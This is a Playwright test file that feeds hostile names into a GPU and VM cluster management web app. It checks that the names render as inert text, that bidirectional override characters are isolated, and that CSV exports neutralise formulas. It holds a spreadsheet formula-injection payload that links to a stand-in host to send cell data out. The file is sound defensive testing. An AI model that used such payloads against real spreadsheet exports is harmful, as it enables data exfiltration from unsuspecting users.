import type { Page } from "@playwright/test";
import { alter, names, nodeAddress, type Device, type Json, type NodeAnswer } from "./bad";
import { expect, expectNoSideways, test } from "./test";

function rename(device: Device, name: string): void {
  device.device_name = name;
  for (const ref of device.references) Object.assign(ref, { vm_name: name, desktop: name, ...(ref.mapping === null ? {} : { mapping: name }) });
}

/** Gives all texts with one of these keys the name. */
function renameIn(value: Json, keys: readonly string[], name: string): void {
  if (Array.isArray(value)) for (const one of value) renameIn(one, keys, name);
  else if (typeof value === "object" && value !== null) {
    for (const key of Object.keys(value)) {
      if (keys.includes(key) && typeof value[key] === "string") value[key] = name;
      else renameIn(value[key] ?? null, keys, name);
    }
  }
}

/** All devices of pve-a, their VMs, mappings and desktops have this name. */
async function renameAll(page: Page, name: string): Promise<void> {
  await alter<NodeAnswer>(page, nodeAddress("pve-a"), ({ devices }) => { for (const device of devices) rename(device, name); });
  await alter<Device>(page, /nodes\/pve-a\/devices\//, (device) => { rename(device, name); });
  await alter<Json>(page, /\/api\/v1\/clusters\/lab\/vms\?/, (answer) => { renameIn(answer, ["name", "desktop", "device_name"], name); });
  await alter<Json>(page, /\/api\/v1\/clusters\/lab\/mappings(?:\/suggestions)?$/, (answer) => {
    renameIn(answer, ["name", "device_name", "description", "message", "mdev_type", "sentence"], name);
  });
  await alter<Json>(page, /\/(?:placement|evacuation|doctor)$/, (answer) => { renameIn(answer, ["name", "mapping", "sentence", "message"], name); });
  await alter<{ desktops: { name: string; note: string }[] }>(page, "**/api/v1/clusters/lab/desktops", ({ desktops }) => {
    for (const desktop of desktops) Object.assign(desktop, { name, note: name });
  });
  await alter<{ findings: { sentence: string; evidence: string[]; params?: Record<string, Json> }[] }>(page, "**/api/v1/clusters/lab/findings", ({ findings }) => {
    for (const finding of findings) {
      finding.evidence = [name];
      finding.sentence = name;
      for (const [key, value] of Object.entries(finding.params ?? {})) if (typeof value === "string" && finding.params) finding.params[key] = name;
    }
  });
  await alter<{ entries: { actor: string | null; object: string; reason: string | null; before: Json; after: Json }[] }>(page, "**/api/v1/audit?*", ({ entries }) => {
    for (const entry of entries) Object.assign(entry, { actor: name, object: name, reason: name, before: { name: "" }, after: { name } });
  });
}

const places: readonly [string, (page: Page) => Promise<void>][] = [
  ["/?cluster=lab", () => Promise.resolve()],
  ["/gpus?cluster=lab&node=pve-a&device=0000:01:00.0", async (page) => { await expect(page.locator(".drawer")).toContainText("hostpci"); }],
  ["/vms?cluster=lab", () => Promise.resolve()],
  ["/vms/lab/110?cluster=lab", () => Promise.resolve()],
  ["/evacuate?cluster=lab&node=pve-a", () => Promise.resolve()],
  ["/doctor?cluster=lab&node=pve-a&device=0000:01:00.0", () => Promise.resolve()],
  ["/mappings?cluster=lab&mapping=old-card", () => Promise.resolve()],
  ["/mappings?cluster=lab&mapping=p4-vgpu", () => Promise.resolve()],
  ["/mappings?cluster=lab&view=suggestions", () => Promise.resolve()],
  ["/desktops?cluster=lab", () => Promise.resolve()],
  ["/findings?cluster=lab", async (page) => { await page.locator("summary").first().click(); }],
  ["/audit", async (page) => { await page.getByRole("table").getByRole("row").nth(1).click(); }],
];

for (const [at, [kind, name]] of Object.entries(names).entries()) {
  // Each name is tried at one width, the long one at both, and with LOOKS=all every one.
  const both = process.env["LOOKS"] === "all" || kind === "long";
  for (const width of both ? [1440, 390] : [at % 2 === 0 ? 1440 : 390]) {
    test(`a ${kind} name stands as it is, ${width}`, async ({ page, open }) => {
      test.setTimeout(180_000);
      page.on("dialog", () => { throw new Error("a script in a name has run"); });
      await page.setViewportSize({ width, height: 844 });
      await renameAll(page, name);
      await open("/no-such-page");
      for (const [path, more] of places) {
        await test.step(path, async () => {
          await page.goto(path);
          await expect(page.locator("#root")).toContainText(name);
          await expect(page.locator(".skel")).toHaveCount(0);
          await more(page);
          await expect(page.locator("#root img[src]")).toHaveCount(0);
          await expectNoSideways(page);
        });
      }
    });
  }
}

test("a name that runs from right to left does not turn round what stands beside it", async ({ page, open }) => {
  await renameAll(page, names.override);
  await open("/gpus?cluster=lab&node=pve-a&device=0000:01:00.0");
  const drawer = page.getByRole("complementary");
  await expect(drawer.locator(".statesentence").first()).toContainText(`\u2068${names.override}\u2069`);
  const line = page.getByRole("row", { name: /0000:01:00\.0/ }).locator(".refs li").first();
  const [id, own] = await Promise.all([line.locator(".id").boundingBox(), line.locator(".nm").boundingBox()]);
  expect(id?.x ?? 0).toBeLessThan(own?.x ?? 0);
  await expect(line.locator(".nm")).toHaveCSS("unicode-bidi", "isolate");
  await expect(drawer.locator(".ref").getByRole("link").first()).toHaveCSS("unicode-bidi", "isolate");
});

test("a file for spreadsheets runs no name as a formula", async ({ page, open }) => {
  const formula = `=HYPERLINK("http://192.0.2.1/?"&A1,"x")\r\n+cmd`;
  await renameAll(page, formula);
  await open("/vms?cluster=lab");
  await expect(page.locator(".skel")).toHaveCount(0);
  await page.getByRole("button", { name: "Export" }).click();
  const [file] = await Promise.all([page.waitForEvent("download"), page.getByRole("menuitem", { name: /CSV/ }).click()]);
  const chunks: Buffer[] = [];
  for await (const chunk of await file.createReadStream()) chunks.push(chunk as Buffer);
  const text = Buffer.concat(chunks).toString("utf8");
  expect(text.startsWith("\uFEFFcluster,vmid,name,")).toBe(true);
  expect(text).toContain(`"'=HYPERLINK(""http://192.0.2.1/?""&A1,""x"")\r\n+cmd"`);
});
